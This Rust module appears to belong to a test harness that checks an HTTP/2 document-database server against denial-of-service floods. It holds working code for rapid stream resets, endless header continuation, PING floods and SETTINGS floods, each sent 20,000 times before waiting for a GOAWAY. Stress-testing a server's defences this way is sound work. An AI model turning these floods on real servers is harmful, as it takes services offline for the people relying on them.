//! Clients that make HTTP/2 work for nothing.

use std::sync::Arc;

use crate::attack::Outcome;
use crate::http2::{Connection, Heard};
use crate::target::{CONTAINER, DATABASE, LARGE_ITEM, Target};

const FRAMES_A_ROUND: usize = 20_000;
const WINDOW: u32 = 65_535;

pub(super) async fn reset_streams(target: Arc<Target>) -> Outcome {
    let Ok(mut connection) = Connection::open(target.address, WINDOW).await else {
        return Outcome::NotConnected;
    };
    let path = format!("/dbs/{DATABASE}/colls/{CONTAINER}/docs/{LARGE_ITEM}");
    let host = target.address.to_string();
    let headers = [
        (":method", "GET"),
        (":scheme", "http"),
        (":authority", host.as_str()),
        (":path", path.as_str()),
    ];
    for _ in 0..FRAMES_A_ROUND {
        let Ok(stream) = connection.ask(&headers, None).await else {
            return Outcome::Closed;
        };
        if connection.reset(stream).await.is_err() {
            return Outcome::Closed;
        }
    }
    until_goaway(connection).await
}

pub(super) async fn endless_headers(target: Arc<Target>) -> Outcome {
    let Ok(mut connection) = Connection::open(target.address, WINDOW).await else {
        return Outcome::NotConnected;
    };
    let Ok(stream) = connection.begin_headers().await else {
        return Outcome::Closed;
    };
    for _ in 0..FRAMES_A_ROUND {
        if connection.go_on_with_headers(stream).await.is_err() {
            return Outcome::Closed;
        }
    }
    until_goaway(connection).await
}

pub(super) async fn pings(target: Arc<Target>) -> Outcome {
    let Ok(mut connection) = Connection::open(target.address, WINDOW).await else {
        return Outcome::NotConnected;
    };
    for _ in 0..FRAMES_A_ROUND {
        if connection.ping().await.is_err() {
            return Outcome::Closed;
        }
    }
    until_goaway(connection).await
}

pub(super) async fn settings(target: Arc<Target>) -> Outcome {
    let Ok(mut connection) = Connection::open(target.address, WINDOW).await else {
        return Outcome::NotConnected;
    };
    for _ in 0..FRAMES_A_ROUND {
        if connection.settings().await.is_err() {
            return Outcome::Closed;
        }
    }
    until_goaway(connection).await
}

async fn until_goaway(mut connection: Connection) -> Outcome {
    while let Ok(heard) = connection.hear().await {
        if matches!(heard, Heard::GoAway) {
            break;
        }
    }
    Outcome::Closed
}
